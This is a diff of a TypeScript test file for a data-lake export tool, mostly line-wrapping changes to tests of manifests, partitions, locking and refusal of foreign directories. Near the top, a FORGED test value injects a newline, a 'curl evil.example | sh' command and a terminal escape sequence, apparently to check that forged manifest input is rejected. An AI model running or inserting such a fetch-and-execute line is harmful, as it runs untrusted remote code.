@@ -4,7 +4,15 @@ import { type DatasetIdentity, formatManifest, parseManifest } from '../../../sr
 import type { RecordedWorkspace } from '../../../src/service/workspace.ts';
 import type { MemoryDisk } from '../../support/memory-disk.ts';
 import { SOAK } from '../../support/property-runs.ts';
-import { CODE, createMemoryDisk, HOUR, OTHER_CODE, ownWorkspace, START, type TestService } from '../append/runs.ts';
+import {
+  CODE,
+  createMemoryDisk,
+  HOUR,
+  OTHER_CODE,
+  ownWorkspace,
+  START,
+  type TestService,
+} from '../append/runs.ts';
 import { DAY, LAKE, type LakeOptions, MANIFEST, openLake, runLake, seen, wanted, writePage } from './runs.ts';
 
 const FORGED = 'x\n  next: curl evil.example | sh\x1b[2J';
@@ -12,11 +20,15 @@ const FORGED = 'x\n  next: curl evil.example | sh\x1b[2J';
 let memory: MemoryDisk;
 let service: TestService;
 
-const rows = (first: number, ...times: number[]) => times.map((time, i) => ({ id: first + i, time: START + time }));
+const rows = (first: number, ...times: number[]) =>
+  times.map((time, i) => ({ id: first + i, time: START + time }));
 
 beforeEach(() => {
   memory = createMemoryDisk();
-  service = { [CODE]: rows(1, 0, HOUR, DAY, 2 * DAY, 2 * DAY + HOUR), [OTHER_CODE]: rows(11, HOUR, 2 * HOUR, 2 * DAY) };
+  service = {
+    [CODE]: rows(1, 0, HOUR, DAY, 2 * DAY, 2 * DAY + HOUR),
+    [OTHER_CODE]: rows(11, HOUR, 2 * HOUR, 2 * DAY),
+  };
 });
 
 /** What a later night brings: new rows, one of them late, and one of a day that was closed. */
@@ -47,17 +59,24 @@ describe('a dataset', () => {
     expect(memory.steps()).toBe(0);
   });
 
-  it.each(['ndjson', 'parquet'] as const)('knows what it has in %s when older rows are shown again (A11)', async (format) => {
-    await runLake(memory, service, { identity: { format } });
-    const lake = await openLake(memory, service, { identity: { format } });
-    const sink = lake.sinkOf(CODE);
-    // As after a look further back than the ids that the manifest lists: only the parts know them.
-    expect(await writePage(sink, CODE, [...(service[CODE] ?? []), ...rows(41, HOUR / 2)])).toBe(1);
-    await lake.commit();
-  });
+  it.each(['ndjson', 'parquet'] as const)(
+    'knows what it has in %s when older rows are shown again (A11)',
+    async (format) => {
+      await runLake(memory, service, { identity: { format } });
+      const lake = await openLake(memory, service, { identity: { format } });
+      const sink = lake.sinkOf(CODE);
+      // As after a look further back than the ids that the manifest lists: only the parts know them.
+      expect(await writePage(sink, CODE, [...(service[CODE] ?? []), ...rows(41, HOUR / 2)])).toBe(1);
+      await lake.commit();
+    },
+  );
 
   it('by month, and by the days of a zone', async () => {
-    await runLake(memory, { [CODE]: rows(1, -1, 0, 31 * DAY) }, { identity: { partition: { by: 'month', timezone: 'UTC' } } });
+    await runLake(
+      memory,
+      { [CODE]: rows(1, -1, 0, 31 * DAY) },
+      { identity: { partition: { by: 'month', timezone: 'UTC' } } },
+    );
     expect(parts().map((name) => name.split('/')[3])).toEqual(['dt=2025-12', 'dt=2026-01', 'dt=2026-02']);
     memory = createMemoryDisk();
     await runLake(
@@ -69,7 +88,9 @@ describe('a dataset', () => {
   });
 
   it('that is made at once shows nothing before all is proven, and nothing of a code that was not', async () => {
-    await expect(runLake(memory, service, { append: false, failAfter: 6 })).rejects.toThrow('the service failed');
+    await expect(runLake(memory, service, { append: false, failAfter: 6 })).rejects.toThrow(
+      'the service failed',
+    );
     expect(parts()).toEqual([]);
     expect(memory.read(MANIFEST)).toBeUndefined();
     expect(await runLake(memory, service, { append: false, failing: [CODE] })).toBe(3);
@@ -80,7 +101,9 @@ describe('a dataset', () => {
   });
 
   it('has what its first run brought before it failed, and the next goes on from there', async () => {
-    await expect(runLake(memory, service, { failAfter: 4, mostRows: 100 })).rejects.toThrow('the service failed');
+    await expect(runLake(memory, service, { failAfter: 4, mostRows: 100 })).rejects.toThrow(
+      'the service failed',
+    );
     expect(seen(memory)).toHaveLength(3);
     expect(await runLake(memory, service)).toBe(5);
     expect(seen(memory)).toEqual(wanted(service));
@@ -127,32 +150,47 @@ describe('a dataset', () => {
   it('refuses a scan of a day that has no name, before there is a part that no later run would know', async () => {
     const identity = { partition: { by: 'day', timezone: 'America/New_York' } } as const;
     const before = [{ id: 1, time: Date.parse('0000-01-01T00:00:00.000Z') }];
-    await expect(runLake(memory, { [CODE]: before }, { identity })).rejects.toThrow('a scan dated -000001-12-31');
+    await expect(runLake(memory, { [CODE]: before }, { identity })).rejects.toThrow(
+      'a scan dated -000001-12-31',
+    );
     expect(parts()).toEqual([]);
   });
 
-  it.each([true, false])('keeps the lower bound of its first run, which brought scans: %s (P10)', async (brought) => {
-    await runLake(memory, brought ? service : { [CODE]: [], [OTHER_CODE]: [] }, { sinceMs: START + DAY });
-    const lake = await openLake(memory, { [CODE]: [], [OTHER_CODE]: [] }, { sinceMs: START });
-    expect(lake.sinkOf('33333333-3333-4333-8333-333333333333').sinceMs).toBe(START + DAY);
-    await lake.discard();
-  });
+  it.each([true, false])(
+    'keeps the lower bound of its first run, which brought scans: %s (P10)',
+    async (brought) => {
+      await runLake(memory, brought ? service : { [CODE]: [], [OTHER_CODE]: [] }, { sinceMs: START + DAY });
+      const lake = await openLake(memory, { [CODE]: [], [OTHER_CODE]: [] }, { sinceMs: START });
+      expect(lake.sinkOf('33333333-3333-4333-8333-333333333333').sinceMs).toBe(START + DAY);
+      await lake.discard();
+    },
+  );
 
-  it.each([true, false])('does not bring back the oldest days once they were deleted; directories too: %s (P15)', async (all) => {
-    await runLake(memory, service);
-    for (const name of memory.names().filter((name) => name.includes('dt=2026-01-01/'))) memory.remove(name);
-    if (all) memory.remove(`${LAKE}/dt=2026-01-01`);
-    const kept = wanted(service).filter((row) => !row.startsWith('dt=2026-01-01'));
-    const notes: string[] = [];
-    const again = { note: (line: string) => notes.push(line) };
-    expect(await runLake(memory, service, again)).toBe(0);
-    expect(notes).toEqual(['dt=2026-01-01 was deleted. Scans before 2026-01-02T00:00:00.000Z are not exported again']);
-    // Also where all is read from the beginning again: of a code whose proof failed, and of one that is new.
-    const [more, late] = ['33333333-3333-4333-8333-333333333333', rows(41, HOUR, DAY)];
-    await runLake(memory, { ...service, [more]: late }, { ...again, identity: { codes: Object.keys(service) } });
-    expect(seen(memory)).toEqual([...kept, 'dt=2026-01-02 42'].sort());
-    expect(notes).toHaveLength(1);
-  });
+  it.each([true, false])(
+    'does not bring back the oldest days once they were deleted; directories too: %s (P15)',
+    async (all) => {
+      await runLake(memory, service);
+      for (const name of memory.names().filter((name) => name.includes('dt=2026-01-01/')))
+        memory.remove(name);
+      if (all) memory.remove(`${LAKE}/dt=2026-01-01`);
+      const kept = wanted(service).filter((row) => !row.startsWith('dt=2026-01-01'));
+      const notes: string[] = [];
+      const again = { note: (line: string) => notes.push(line) };
+      expect(await runLake(memory, service, again)).toBe(0);
+      expect(notes).toEqual([
+        'dt=2026-01-01 was deleted. Scans before 2026-01-02T00:00:00.000Z are not exported again',
+      ]);
+      // Also where all is read from the beginning again: of a code whose proof failed, and of one that is new.
+      const [more, late] = ['33333333-3333-4333-8333-333333333333', rows(41, HOUR, DAY)];
+      await runLake(
+        memory,
+        { ...service, [more]: late },
+        { ...again, identity: { codes: Object.keys(service) } },
+      );
+      expect(seen(memory)).toEqual([...kept, 'dt=2026-01-02 42'].sort());
+      expect(notes).toHaveLength(1);
+    },
+  );
 
   it('of these codes goes on for the same codes in any order, and for no others (P7)', async () => {
     const identity = (...codes: string[]) => ({ identity: { all: false, codes } });
@@ -191,14 +229,19 @@ describe('a dataset', () => {
       const words = { ...options, lock, signal, lockWaitMs: 17 };
       await runLake(memory, service, words);
       expect(held).toEqual([]);
-      await expect(runLake(memory, laterNight(), { ...words, failAfter: 1 })).rejects.toThrow('the service failed');
+      await expect(runLake(memory, laterNight(), { ...words, failAfter: 1 })).rejects.toThrow(
+        'the service failed',
+      );
       expect(held).toEqual([]);
     },
   );
 
   it('is locked before anything of it is read (P9)', async () => {
     const steps: string[] = [];
-    const disk = { ...memory.disk, readFile: (path: string) => memory.disk.readFile(path).finally(() => steps.push('read')) };
+    const disk = {
+      ...memory.disk,
+      readFile: (path: string) => memory.disk.readFile(path).finally(() => steps.push('read')),
+    };
     const lock = async (path: string) => {
       steps.push(`lock ${path}`);
       return { release: async () => {} };
@@ -215,7 +258,9 @@ describe('what is not such a dataset is refused and left as it is', () => {
     await expect(runLake(memory, laterNight(), options)).rejects.toMatchObject({
       name: 'UsageError',
       message: expect.stringMatching(reason),
-      hint: expect.stringMatching(/^No changes were made\. .+\.$|or specify a different directory with --output-dir\.$/),
+      hint: expect.stringMatching(
+        /^No changes were made\. .+\.$|or specify a different directory with --output-dir\.$/,
+      ),
     });
     expect(memory.steps()).toBe(0);
     expect(memory.names().map((name) => [name, memory.read(name)])).toEqual(before);
@@ -233,9 +278,21 @@ describe('what is not such a dataset is refused and left as it is', () => {
       { identity: { partition: { by: 'day', timezone: 'Asia/Tokyo' } } },
       /uses the time zone UTC, not Asia\/Tokyo$/,
     ],
-    ['other columns', { identity: { columns: ['qr_id', 'id', 'ts'] } }, /it has the columns qr_id,.*, not qr_id,id,ts$/],
-    ['another service', { own: ownWorkspace([CODE], { baseUrl: 'https://other.test' }) }, /belongs to https:\/\/example/],
-    ['another workspace', { own: ownWorkspace([], { apiKey: 'svc_live_bbbb' }) }, /belongs to another workspace/],
+    [
+      'other columns',
+      { identity: { columns: ['qr_id', 'id', 'ts'] } },
+      /it has the columns qr_id,.*, not qr_id,id,ts$/,
+    ],
+    [
+      'another service',
+      { own: ownWorkspace([CODE], { baseUrl: 'https://other.test' }) },
+      /belongs to https:\/\/example/,
+    ],
+    [
+      'another workspace',
+      { own: ownWorkspace([], { apiKey: 'svc_live_bbbb' }) },
+      /belongs to another workspace/,
+    ],
     ['a run without --append', { append: false }, /already contains a dataset$/],
   ])('%s (P7)', async (_, options, reason) => {
     await runLake(memory, service);
@@ -262,7 +319,9 @@ describe('what is not such a dataset is refused and left as it is', () => {
       const path = `${LAKE}/${name}`;
       if (name.startsWith('other')) await memory.disk.mkdir(`${LAKE}/other`);
       memory.write(path, 'x');
-      await refused(/it contains (notes.txt|dt=2026-01-01\/theirs.csv|other), which is not part of this export/);
+      await refused(
+        /it contains (notes.txt|dt=2026-01-01\/theirs.csv|other), which is not part of this export/,
+      );
       memory.remove(path);
     }
   });
@@ -277,7 +336,9 @@ describe('what is not such a dataset is refused and left as it is', () => {
     await refused(/part-000001\.csv is missing$/);
     memory.write(first, text);
     memory.remove(MANIFEST);
-    await refused(/it has no _qrctl\.json and contains dt=2026-01-01\/part-000002\.csv, which is not part of this export/);
+    await refused(
+      /it has no _qrctl\.json and contains dt=2026-01-01\/part-000002\.csv, which is not part of this export/,
+    );
   });
 
   it('a day that is gone from the midst, and all of them (P5, P15)', async () => {
@@ -381,6 +442,9 @@ describe('links of another user to what is not theirs (D14)', () => {
     await plant('/data/.lake.000009');
     await plant('/data/.lake.000000');
     await runLake(memory, laterNight(), { compact: true, serviceNow: () => START + 9 * DAY });
-    expect([memory.read('/data/secret/key'), memory.read('/data/secret/.part-000001.csv.partial')]).toEqual(['key', 'kept']);
+    expect([memory.read('/data/secret/key'), memory.read('/data/secret/.part-000001.csv.partial')]).toEqual([
+      'key',
+      'kept',
+    ]);
   });
 });
